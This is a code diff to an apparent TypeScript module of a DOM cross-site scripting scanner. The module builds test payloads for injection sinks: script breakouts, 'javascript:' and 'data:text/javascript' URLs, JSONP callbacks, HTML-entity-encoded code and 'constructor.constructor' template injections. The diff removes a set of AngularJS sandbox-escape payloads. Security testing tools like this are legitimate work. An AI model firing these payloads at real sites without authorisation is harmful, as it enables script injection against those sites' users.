@@ -16,6 +16,9 @@ const markup = new Set([
   'srcdoc',
 ]);
 const script = new Set(['eval', 'Function', 'setTimeout', 'setInterval', 'script text', 'event handler']);
+/** Types of files that a page makes of text: as documents and as scripts they run in its origin. */
+const markupType = /\b(?:html|xml)\b/i;
+const scriptType = /script/i;
 /** What a page requests, to make markup or script of the response. */
 const requests = new Set(['fetch', 'XMLHttpRequest']);
 const maxPayloads = 7;
@@ -25,7 +28,8 @@ const inert = new Set(['selector', 'meta content']);
 /** Values that make the sink run `code`, by the text that it received with `mark`; the likeliest first. */
 export function payloadsFor({ sink, value, element }: SinkUse, mark: string, code: string): readonly string[] {
   if (inert.has(sink) || element === 'link') return [];
-  if (markup.has(sink)) return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code)];
+  if (markup.has(sink) || (sink === 'Blob' && markupType.test(element))) return markupPayloads(value, mark, code);
+  if (sink === 'Blob') return scriptType.test(element) ? scriptPayloads(value, mark, code, false) : [];
   if (script.has(sink)) return scriptPayloads(value, mark, code, sink === 'Function');
   if (requests.has(sink) || element === 'script' || element === 'base') return urlsOfScript(value, mark, code);
   const before = (value.toLowerCase().split(mark, 1)[0] ?? '').trim();
@@ -37,14 +41,37 @@ export function payloadsFor({ sink, value, element }: SinkUse, mark: string, cod
   return [`javascript:${code}(1)`, `javascript:${code}(1)//`, `javascript:${code}(1)//http://https://x`];
 }
 
+function markupPayloads(value: string, mark: string, code: string): readonly string[] {
+  if (value.includes(mark) || !value.includes(mark.toUpperCase()))
+    return [...breakouts(value, mark, code), ...withoutEncoded(value, mark, code)];
+  // Names of script have small letters; numbers of characters stay as they are.
+  return breakouts(value.replaceAll(mark.toUpperCase(), mark), mark, code).map((payload) =>
+    payload.replaceAll(
+      code,
+      code.replaceAll(/./g, (letter) => `&#${letter.codePointAt(0)};`),
+    ),
+  );
+}
+
 function scriptPayloads(text: string, mark: string, code: string, isTemplate: boolean): readonly string[] {
   return [
     ...breakouts(`<script>${text}</script>`, mark, code).filter(isNoMarkup),
     ...outOfStructure(text, mark, code),
     `${code}(1)`,
-    // Of templates that are compiled to a function.
-    ...(isTemplate ? [`<%=${code}(1)%>`] : []),
+    // Other text may follow.
+    `${code}(1)-`,
+    // Of templates and of expressions that are compiled to a function.
+    ...(isTemplate ? [`<%=${code}(1)%>`, `constructor.constructor('${code}(1)')()`] : []),
   ];
+}
+
+/** Where `javascript:` URLs run. */
+const followsUrls = /^(?:location|window\.open|href|action|formaction)$|^src\b/;
+
+/** Values for a sink that takes URLs only: those of script are URLs, too. */
+export function scriptUrlsFor({ sink, value }: SinkUse, mark: string, code: string): readonly string[] {
+  const isWholeUrl = value.toLowerCase().startsWith(`https://${mark}`);
+  return isWholeUrl && followsUrls.test(sink) ? [`javascript:${code}(1)`, `javascript:${code}(1)//https://x`] : [];
 }
 
 const closing: Readonly<Record<string, string>> = { '(': ')', '[': ']', '{': '}' };
@@ -79,6 +106,8 @@ function urlsOfScript(value: string, mark: string, code: string): readonly strin
   if (before === '') return [`data:text/javascript,${code}(1)//`, `//${host}/`];
   if (/^(?:https?:)?\/\/$/.test(before)) return [`${host}/`];
   if (/^(?:https?:)?\/\/[^/?#]*$/.test(before)) return [`.${host}/`, `@${host}/`];
+  // The name of a function with which the response begins.
+  if (/[?&][^#]{0,200}=$/.test(before)) return [`${code}(1)//`, `${code}(1);`];
   return before === '/' ? [`/${host}/`] : [];
 }
 
@@ -118,29 +147,4 @@ export function unobservedSinksIn(scripts: readonly string[]): readonly Unobserv
 export function blindPayloads(sink: UnobservedSink, code: string): readonly string[] {
   if (sink === 'import()') return [`data:text/javascript,${code}(1)//`, `//${code}.example/`];
   return [`'-${code}(1)-'`, `"-${code}(1)-"`, `${code}(1)`];
-}
-
-const angular = /\sng-(?:app|controller|bind|model|init)\b|\sdata-ng-|angular(?:\.min)?\.js/i;
-const vue =
-  /\sv-(?:if|for|bind|on|model|cloak|html)\b|vue(?:\.global)?(?:\.prod|\.min)?\.js|data-v-app|\bnew Vue\(|\bcreateApp\(/i;
-
-/** Expressions for templates that the browser compiles, where the page has such ones. */
-export function templatePayloads(html: string, code: string): readonly string[] {
-  return [
-    ...(angular.test(html) || vue.test(html) ? [`{{constructor.constructor('${code}(1)')()}}`] : []),
-    ...(vue.test(html) ? [`{{_toDisplayString.constructor('${code}(1)')()}}`] : []),
-    ...(angular.test(html) ? [...angularPayloads(`${code}(1)`)] : []),
-  ];
-}
-
-/** Of AngularJS 1.2 to 1.5, whose expressions have a sandbox, and of any other version. */
-function angularPayloads(call: string): readonly string[] {
-  return [
-    `{{$on.constructor('${call}')()}}`,
-    `{{x={'y':''.constructor.prototype};x['y'].charAt=[].join;$eval('x=${call}')}}`,
-    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=1} } };${call}//')}}`,
-    `{{'a'.constructor.prototype.charAt=[].join;$eval('x=${call}')}}`,
-    `{{toString.constructor.prototype.toString=toString.constructor.prototype.call;["a","${call}"].sort(toString.constructor)}}`,
-    `{{a='constructor';b={};a.sub.call.call(b[a].getOwnPropertyDescriptor(b[a].getPrototypeOf(a.sub),a).value,0,'${call}')()}}`,
-  ];
 }
